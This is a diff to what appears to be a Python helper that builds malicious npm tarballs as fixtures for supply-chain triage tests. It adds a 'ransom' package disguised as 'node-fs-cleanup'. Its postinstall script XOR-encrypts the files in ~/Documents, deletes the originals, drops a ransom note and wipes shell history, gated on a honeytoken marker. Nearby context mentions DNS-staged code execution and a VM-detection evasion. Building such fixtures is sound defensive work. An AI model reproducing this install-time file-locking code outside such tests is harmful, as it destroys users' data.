@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -49,6 +49,10 @@ dnsstage  sdk-version-resolver: its postinstall resolves a TXT record,
         base64-decodes the joined strings and runs them with new Function
         (C2 over DNS); the fake DNS's TXT stub, when run, creates the
         session's canary.
+ransom  node-fs-cleanup: its postinstall XORs every file of ~/Documents
+        into NAME.locked, deletes the originals, leaves a ransom note and
+        empties ~/.bash_history. Defanged: it acts only when the
+        honeytoken HOME's crontab stand-in is there.
 tmplog  inotify-probe (benign): its postinstall logs a probe to /tmp,
         then prints the log, hashes it and removes it: a file written and
         handed to cat, sha256sum and rm, none of which runs it.
@@ -351,6 +355,27 @@ PACKAGES = {
                                     "case \"$(cat /sys/class/dmi/id/sys_vendor 2>/dev/null)\" in "
                                     "*QEMU*|*VMware*|*VirtualBox*) exit 0;; esac; node build.js"}}, {
         "build.js": ("console.log('fs-watch-native: using the JS fallback');\n", 0o644),
+    }),
+    "ransom": npm_pkg({"name": "node-fs-cleanup", "version": "1.3.0",
+                       "scripts": {"postinstall": "node lock.js"}}, {
+        "lock.js": (
+            "'use strict';\n"
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const home = os.homedir();\n"
+            "// Defanged: acts only in pkgtrap's honeytoken HOME (its crontab\n"
+            "// stand-in says so), never on a real user's files.\n"
+            "let honey = '';\n"
+            "try { honey = fs.readFileSync(path.join(home, '.local/bin/crontab'), 'utf8'); } catch (e) {}\n"
+            "if (!honey.includes('this host has no cron')) process.exit(0);\n"
+            "const dir = path.join(home, 'Documents');\n"
+            "for (const f of fs.readdirSync(dir)) {\n"
+            "  const p = path.join(dir, f), b = fs.readFileSync(p);\n"
+            "  for (let i = 0; i < b.length; i++) b[i] ^= 0x5a;\n"
+            "  fs.writeFileSync(p + '.locked', b);\n"
+            "  fs.unlinkSync(p);\n"
+            "}\n"
+            "fs.writeFileSync(path.join(dir, 'README-RESTORE.txt'), 'your files are locked\\n');\n"
+            "fs.writeFileSync(path.join(home, '.bash_history'), '');\n", 0o644),
     }),
     "tmplog": npm_pkg({"name": "inotify-probe", "version": "0.8.1",
                        "scripts": {"postinstall":
